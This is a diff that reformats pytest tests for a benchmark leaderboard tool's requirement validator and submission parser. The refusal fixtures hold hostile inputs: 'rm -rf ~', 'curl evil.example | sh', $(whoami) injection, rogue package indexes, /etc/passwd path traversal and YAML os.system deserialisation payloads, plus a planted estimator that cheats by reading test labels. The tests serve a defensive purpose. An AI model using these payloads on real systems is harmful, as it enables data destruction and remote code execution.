@@ -24,33 +24,39 @@ estimators:
 """
 
 
-@pytest.mark.parametrize("req, project", [
-    ("mass-forest", "mass-forest"),
-    ("Mass_Forest==0.2.1", "mass-forest"),
-    ("mass-forest[gpu]>=0.2,<0.3", "mass-forest"),
-    ("mass-forest (>=0.2)", "mass-forest"),
-    ("mass-forest @ https://github.com/someone/mass-forest/archive/v0.2.tar.gz", "mass-forest"),
-    ("mass-forest @ git+https://github.com/someone/mass-forest@v0.2", "mass-forest"),
-    ("mass-forest @ file:///tmp/mass-forest", "mass-forest"),
-])
+@pytest.mark.parametrize(
+    "req, project",
+    [
+        ("mass-forest", "mass-forest"),
+        ("Mass_Forest==0.2.1", "mass-forest"),
+        ("mass-forest[gpu]>=0.2,<0.3", "mass-forest"),
+        ("mass-forest (>=0.2)", "mass-forest"),
+        ("mass-forest @ https://github.com/someone/mass-forest/archive/v0.2.tar.gz", "mass-forest"),
+        ("mass-forest @ git+https://github.com/someone/mass-forest@v0.2", "mass-forest"),
+        ("mass-forest @ file:///tmp/mass-forest", "mass-forest"),
+    ],
+)
 def test_valid_requirements(req, project):
     assert validate_requirement(req) == project
 
 
-@pytest.mark.parametrize("req, words", [
-    ("-e .", "pip option"),
-    ("--index-url=https://evil.example/simple mass-forest", "pip option"),
-    ("-r requirements.txt", "pip option"),
-    ("mass-forest; rm -rf ~", "not a plain pip requirement"),
-    ("mass-forest && curl evil.example | sh", "not a plain pip requirement"),
-    ("mass-forest @ https://x.example/$(whoami).tar.gz", "not a plain pip requirement"),
-    ("mass-forest @ http://insecure.example/a.tar.gz", "not a plain pip requirement"),
-    ("mass-forest @ https://x.example/a.tar.gz --extra-index-url https://evil", "not a plain pip requirement"),
-    ("./mass-forest", "looks like a path"),
-    ("mass-forest==0.2; python_version > '3'", "not a plain pip requirement"),
-    ("mass forest", "not a plain pip requirement"),
-    ("", "must be a pip requirement"),
-])
+@pytest.mark.parametrize(
+    "req, words",
+    [
+        ("-e .", "pip option"),
+        ("--index-url=https://evil.example/simple mass-forest", "pip option"),
+        ("-r requirements.txt", "pip option"),
+        ("mass-forest; rm -rf ~", "not a plain pip requirement"),
+        ("mass-forest && curl evil.example | sh", "not a plain pip requirement"),
+        ("mass-forest @ https://x.example/$(whoami).tar.gz", "not a plain pip requirement"),
+        ("mass-forest @ http://insecure.example/a.tar.gz", "not a plain pip requirement"),
+        ("mass-forest @ https://x.example/a.tar.gz --extra-index-url https://evil", "not a plain pip requirement"),
+        ("./mass-forest", "looks like a path"),
+        ("mass-forest==0.2; python_version > '3'", "not a plain pip requirement"),
+        ("mass forest", "not a plain pip requirement"),
+        ("", "must be a pip requirement"),
+    ],
+)
 def test_unsafe_or_malformed_requirements_are_refused(req, words):
     with pytest.raises(ConfigError, match=words.replace("(", r"\(")):
         validate_requirement(req)
@@ -64,20 +70,26 @@ def test_parse_good_submission():
     assert short.estimators[0].label == "x-est" and short.benchmark == "benchmarks/smoke.yaml"
 
 
-@pytest.mark.parametrize("text, words", [
-    (GOOD.replace("name: mass-forest\n", "name: mass-forest\nscript: curl x | sh\n", 1), ":2: unknown key script"),
-    (GOOD.replace('"mass-forest==0.2.1"', '"-e git+https://x"'), ":2: requirement '-e git+https://x' is a pip option"),
-    (GOOD + "benchmark: /etc/passwd\n", ":7: benchmark '/etc/passwd' must name a file of massbench's benchmarks/"),
-    (GOOD + "benchmark: benchmarks/../../x.yaml\n", "must name a file of massbench's benchmarks/"),
-    (GOOD.replace("- name: mass-forest", "- name: pkg.module:Class"), ":4: estimators[0].name"),
-    (GOOD + "  - name: other\n    label: Mass forest\n", "label 'Mass forest' is used twice"),
-    (GOOD.replace("label: Mass forest", "label: 'a, b'"), "without commas"),
-    (GOOD.replace("estimators:", "estimators: []\nx:").split("  - name")[0], "unknown key x"),
-    ("!!python/object/apply:os.system ['echo hacked']\n", "not valid YAML"),
-    ("name: a\nrequirement: !!python/name:os.system\nestimators: [a]\n", "not valid YAML"),
-    ("- just\n- a list\n", ":1: a submission file must be a mapping"),
-    ("name: a\nname: b\nrequirement: a\nestimators: [a]\n", ":2: key 'name' appears twice"),
-])
+@pytest.mark.parametrize(
+    "text, words",
+    [
+        (GOOD.replace("name: mass-forest\n", "name: mass-forest\nscript: curl x | sh\n", 1), ":2: unknown key script"),
+        (
+            GOOD.replace('"mass-forest==0.2.1"', '"-e git+https://x"'),
+            ":2: requirement '-e git+https://x' is a pip option",
+        ),
+        (GOOD + "benchmark: /etc/passwd\n", ":7: benchmark '/etc/passwd' must name a file of massbench's benchmarks/"),
+        (GOOD + "benchmark: benchmarks/../../x.yaml\n", "must name a file of massbench's benchmarks/"),
+        (GOOD.replace("- name: mass-forest", "- name: pkg.module:Class"), ":4: estimators[0].name"),
+        (GOOD + "  - name: other\n    label: Mass forest\n", "label 'Mass forest' is used twice"),
+        (GOOD.replace("label: Mass forest", "label: 'a, b'"), "without commas"),
+        (GOOD.replace("estimators:", "estimators: []\nx:").split("  - name")[0], "unknown key x"),
+        ("!!python/object/apply:os.system ['echo hacked']\n", "not valid YAML"),
+        ("name: a\nrequirement: !!python/name:os.system\nestimators: [a]\n", "not valid YAML"),
+        ("- just\n- a list\n", ":1: a submission file must be a mapping"),
+        ("name: a\nname: b\nrequirement: a\nestimators: [a]\n", ":2: key 'name' appears twice"),
+    ],
+)
 def test_bad_submissions_name_file_and_line(text, words):
     with pytest.raises(ConfigError) as exc:
         parse_submission(text, "leaderboards/submissions/mass-forest.yaml" if "name: a" not in text else "s/a.yaml")
@@ -122,19 +134,23 @@ def _smoke_or_toy(tmp_path: Path) -> tuple[Path, str]:
     return bench, "obs"
 
 
-def _plugin_and_submission(tmp_path: Path, input_name: str, name: str = "mass-forest", edit=None,
-                           estimators: str | None = None) -> Path:
+def _plugin_and_submission(
+    tmp_path: Path, input_name: str, name: str = "mass-forest", edit=None, estimators: str | None = None
+) -> Path:
     assert run_cli("new-plugin", str(tmp_path / name), "--name", name, "--input", input_name).returncode == 0
     if edit:
         est = tmp_path / name / "src" / name.replace("-", "_") / "estimator.py"
         est.write_text(edit(est.read_text()))
     sub = tmp_path / "submissions" / f"{name}.yaml"
     sub.parent.mkdir(exist_ok=True)
-    sub.write_text(textwrap.dedent(f"""\
+    sub.write_text(
+        textwrap.dedent(f"""\
         name: {name}
         requirement: "{name} @ {(tmp_path / name).as_uri()}"
         estimators:
-        """) + (estimators or f"  - name: {name}\n    label: Forest (submitted)\n    params: {{ridge: 1.0e-6}}\n"))
+        """)
+        + (estimators or f"  - name: {name}\n    label: Forest (submitted)\n    params: {{ridge: 1.0e-6}}\n")
+    )
     return sub
 
 
@@ -142,8 +158,19 @@ def test_submit_installs_checks_runs_and_writes_the_comment(tmp_path):
     bench, input_name = _smoke_or_toy(tmp_path)
     sub = _plugin_and_submission(tmp_path, input_name)
     out = tmp_path / "out"
-    p = run_cli("leaderboard", "submit", str(sub), "--bench", str(bench), "--out", str(out), "--no-build-isolation",
-                "--device", "cpu", timeout=600)
+    p = run_cli(
+        "leaderboard",
+        "submit",
+        str(sub),
+        "--bench",
+        str(bench),
+        "--out",
+        str(out),
+        "--no-build-isolation",
+        "--device",
+        "cpu",
+        timeout=600,
+    )
     assert p.returncode == 0, p.stdout + p.stderr
     comment = (out / "comment.md").read_text()
     assert "passed" in comment.splitlines()[0] and "| Forest (submitted) | mass-forest |" in comment
@@ -169,22 +196,46 @@ def test_submit_reports_contract_breaks_and_foreign_estimators(tmp_path):
     bench = tmp_path / "toy.yaml"
     bench.write_text(TOY_BENCH)
     cheat = _plugin_and_submission(
-        tmp_path, "obs", name="cheater",
-        edit=lambda s: s.replace("return self._features(test) @ self.coef_",
-                                 "return test.log10_m500c + 0 * (self._features(test) @ self.coef_)"))
-    p = run_cli("leaderboard", "submit", str(cheat), "--bench", str(bench), "--out", str(tmp_path / "o1"),
-                "--no-build-isolation")
+        tmp_path,
+        "obs",
+        name="cheater",
+        edit=lambda s: s.replace(
+            "return self._features(test) @ self.coef_",
+            "return test.log10_m500c + 0 * (self._features(test) @ self.coef_)",
+        ),
+    )
+    p = run_cli(
+        "leaderboard",
+        "submit",
+        str(cheat),
+        "--bench",
+        str(bench),
+        "--out",
+        str(tmp_path / "o1"),
+        "--no-build-isolation",
+    )
     assert p.returncode == 1
     comment = (tmp_path / "o1" / "comment.md").read_text()
     assert "problems found" in comment and "no-test-masses" in comment
     assert not (tmp_path / "o1" / "results").exists()  # never benchmarked
-    foreign = _plugin_and_submission(tmp_path, "obs", name="borrower",
-                                     estimators="  - name: borrower\n  - name: toy-linear\n    label: Mine\n")
-    p = run_cli("leaderboard", "submit", str(foreign), "--bench", str(bench), "--out", str(tmp_path / "o2"),
-                "--no-build-isolation")
+    foreign = _plugin_and_submission(
+        tmp_path, "obs", name="borrower", estimators="  - name: borrower\n  - name: toy-linear\n    label: Mine\n"
+    )
+    p = run_cli(
+        "leaderboard",
+        "submit",
+        str(foreign),
+        "--bench",
+        str(bench),
+        "--out",
+        str(tmp_path / "o2"),
+        "--no-build-isolation",
+    )
     assert p.returncode == 1
-    assert "estimator 'toy-linear' comes from distribution 'MASSBENCH_PLUGINS', not from the submitted requirement " \
-           "'borrower'" in (tmp_path / "o2" / "comment.md").read_text()
+    assert (
+        "estimator 'toy-linear' comes from distribution 'MASSBENCH_PLUGINS', not from the submitted requirement "
+        "'borrower'" in (tmp_path / "o2" / "comment.md").read_text()
+    )
     p = run_cli("leaderboard", "submit", str(tmp_path / "submissions" / "missing.yaml"), "--bench", str(bench))
     assert p.returncode == 2 and "missing.yaml: cannot read" in p.stderr.replace("\n", "")
 
